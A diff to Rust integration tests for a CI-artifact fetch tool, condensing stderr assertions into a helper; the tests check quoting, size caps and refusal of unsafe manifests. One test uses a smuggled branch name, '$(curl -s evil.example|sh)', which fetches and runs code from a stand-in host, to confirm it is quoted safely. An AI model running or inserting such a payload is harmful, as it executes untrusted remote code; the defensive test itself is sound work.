@@ -104,12 +104,7 @@ fn fetch_shell_quotes_a_hostile_branch_in_the_command_it_suggests() {
     w.expired_artifact(run);
 
     let out = w.fetch_run(run).run().failure();
-    assert!(
-        out.stderr
-            .contains("rerecord schedule --branch '$(curl -s evil.example|sh)'"),
-        "{}",
-        out.stderr
-    );
+    out.assert_stderr_has("rerecord schedule --branch '$(curl -s evil.example|sh)'");
 }
 
 #[test]
@@ -124,11 +119,7 @@ fn fetch_refuses_a_manifest_that_deletes_a_recordings_directory() {
     let out = w.fetch_run(run).run().failure();
     assert_eq!(w.snapshot(), before, "{}", out.stderr);
     assert_eq!(w.read(B), "{\"b\": 1}\n");
-    assert!(
-        out.stderr.contains("tests/integration/agents/recordings"),
-        "{}",
-        out.stderr
-    );
+    out.assert_stderr_has("tests/integration/agents/recordings");
 }
 
 #[test]
@@ -143,11 +134,7 @@ fn fetch_refuses_names_that_differ_only_by_unicode_normalisation_or_case() {
             ("recordings-2", artifact(&[(second, "two\n")])),
         ]);
         let out = w.fetch_run(run).run().failure();
-        assert!(
-            out.stderr.contains("names differ only in case or Unicode"),
-            "{}",
-            out.stderr
-        );
+        out.assert_stderr_has("names differ only in case or Unicode");
         assert_eq!(w.snapshot(), before);
     }
 }
@@ -221,12 +208,7 @@ fn fetch_refuses_a_run_whose_artifacts_together_are_over_the_total_cap() {
         .env("RERECORD_MAX_TOTAL_SIZE", "4000")
         .run()
         .failure();
-    assert!(
-        out.stderr
-            .contains("over the 4000 byte limit for all artifacts of a run"),
-        "{}",
-        out.stderr
-    );
+    out.assert_stderr_has("over the 4000 byte limit for all artifacts of a run");
     assert_eq!(w.snapshot(), before);
     let downloads = w
         .fake
@@ -256,12 +238,7 @@ fn fetch_refuses_a_run_whose_artifacts_together_are_over_the_total_cap() {
         .env("RERECORD_MAX_TOTAL_SIZE", "5000")
         .run()
         .failure();
-    assert!(
-        out.stderr
-            .contains("the limit for all artifacts of a run together"),
-        "{}",
-        out.stderr
-    );
+    out.assert_stderr_has("the limit for all artifacts of a run together");
     assert_eq!(w.snapshot(), before);
 }
 
@@ -314,10 +291,6 @@ fn fetch_stops_reading_an_api_answer_that_never_ends() {
         .args(["fetch", "--api-url", &url, "--repo", UPSTREAM, "--run", "7"])
         .run()
         .failure();
-    assert!(
-        out.stderr.contains("larger than 8388608 bytes"),
-        "{}",
-        out.stderr
-    );
+    out.assert_stderr_has("larger than 8388608 bytes");
     assert!(started.elapsed() < std::time::Duration::from_secs(60));
 }
